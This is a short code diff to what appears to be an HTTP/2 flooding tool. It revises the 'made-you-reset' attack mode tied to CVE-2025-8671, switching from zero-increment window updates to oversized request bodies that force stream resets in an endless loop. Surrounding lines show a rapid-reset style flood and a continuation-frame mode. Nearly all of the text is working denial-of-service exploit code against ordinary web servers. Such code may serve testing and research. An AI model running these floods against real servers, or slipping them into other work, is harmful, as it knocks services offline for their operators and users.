@@ -37,9 +37,9 @@ def flood(kind):
             yield frame(1, 5, stream, block(HEAD)) + frame(3, 0, stream, struct.pack(">I", 8))
             stream += 2
     elif kind == "made-you-reset":
-        # The server is made to reset: an increment of 0 is an error of the stream (CVE-2025-8671).
+        # The server is made to reset (CVE-2025-8671): a body longer than its length is an error of the stream. An increment of 0, the usual way, is one of the connection here.
         while True:
-            yield frame(1, 4, stream, block(POST)) + frame(8, 0, stream, struct.pack(">I", 0))
+            yield frame(1, 4, stream, block(POST + [("content-length", "1")])) + frame(0, 1, stream, b"xx")
             stream += 2
     elif kind == "continuation":
         yield frame(1, 1, 1, block(HEAD))
